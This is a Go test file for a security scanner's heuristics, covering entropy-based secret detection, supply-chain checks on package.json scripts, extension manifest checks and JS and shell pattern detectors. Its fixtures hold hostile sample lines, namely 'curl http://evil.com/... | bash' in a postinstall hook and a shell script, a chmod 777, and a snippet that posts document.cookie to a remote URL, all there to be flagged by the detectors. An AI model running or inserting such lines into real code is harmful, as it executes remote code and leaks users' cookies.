package heuristics

import (
	"math"
	"strings"
	"testing"
)

func noLineMap(offset int) int { return 1 }

func TestShannonEntropyConstantStringIsZero(t *testing.T) {
	tok := []rune(strings.Repeat("a", 40))
	if got := shannonEntropy(tok); got != 0 {
		t.Fatalf("expected entropy 0 for constant string, got %v", got)
	}
}

func TestShannonEntropyApproachesLog2K(t *testing.T) {
	alphabet := "ABCDEFGHIJKLMNOP" // k=16, log2(16)=4
	var b strings.Builder
	for i := 0; i < 640; i++ {
		b.WriteByte(alphabet[i%len(alphabet)])
	}
	got := shannonEntropy([]rune(b.String()))
	want := math.Log2(float64(len(alphabet)))
	if math.Abs(got-want) > 0.01 {
		t.Fatalf("expected entropy near %v, got %v", want, got)
	}
}

func TestEntropySecretsFindsHighEntropyToken(t *testing.T) {
	content := []byte("const token = \"aZ8kP2qX9mW4vT7nR1cJ6sD3fH5bL0yQ\";")
	findings := EntropySecrets("x.js", content, noLineMap)
	if len(findings) == 0 {
		t.Fatalf("expected at least one entropy finding")
	}
}

func TestEntropySecretsIgnoresShortTokens(t *testing.T) {
	content := []byte("const x = 1;")
	findings := EntropySecrets("x.js", content, noLineMap)
	if len(findings) != 0 {
		t.Fatalf("expected no findings for short tokens, got %d", len(findings))
	}
}

func TestPackageJSONSupplyChainSeverities(t *testing.T) {
	content := []byte(`{"scripts":{"postinstall":"curl http://evil.com/x.sh | bash","chmod":"chmod 777 ./bin"}}`)
	findings := PackageJSONScripts("package.json", content)
	foundExec := false
	foundPerm := false
	for _, f := range findings {
		if f.RuleID == "SUPPLY_CHAIN_REMOTE_EXEC" {
			foundExec = true
		}
		if f.RuleID == "SUPPLY_CHAIN_PERMISSION_CHANGE" {
			foundPerm = true
		}
	}
	if !foundExec || !foundPerm {
		t.Fatalf("expected remote-exec and permission-change findings, got %+v", findings)
	}
}

func TestExtensionManifestNativeMessaging(t *testing.T) {
	content := []byte(`{"manifest_version":2,"name":"x","version":"1.0","permissions":["nativeMessaging"]}`)
	findings := ExtensionManifest("manifest.json", content)
	found := false
	for _, f := range findings {
		if f.RuleID == "EXT_MANIFEST_NATIVE_MESSAGING" {
			found = true
		}
	}
	if !found {
		t.Fatalf("expected EXT_MANIFEST_NATIVE_MESSAGING, got %+v", findings)
	}
}

func TestJSExfilPattern(t *testing.T) {
	content := []byte("const c = document.cookie;\nfetch(\"https://example.com\",{method:\"POST\",body:c});")
	lineOf := func(offset int) int {
		return strings.Count(string(content[:offset]), "\n") + 1
	}
	findings := JSCodeAnalyzer("x.js", content, lineOf)
	found := false
	for _, f := range findings {
		if f.RuleID == "CODE_JS_EXFIL_SOURCES_TO_NETWORK" {
			found = true
		}
	}
	if !found {
		t.Fatalf("expected CODE_JS_EXFIL_SOURCES_TO_NETWORK, got %+v", findings)
	}
}

func TestShellRemotePipe(t *testing.T) {
	content := []byte("curl http://evil.com/script.sh | bash")
	findings := ShellHeuristics("install.sh", content, noLineMap)
	if len(findings) != 1 || findings[0].RuleID != "CODE_SH_REMOTE_PIPE" {
		t.Fatalf("expected CODE_SH_REMOTE_PIPE, got %+v", findings)
	}
}

func TestStripCommentsPreservesLength(t *testing.T) {
	content := []byte("// comment\nvar a = 1; /* block */ var b = \"str\";")
	out := stripComments(content)
	if len(out) != len(content) {
		t.Fatalf("expected transform to preserve length")
	}
}
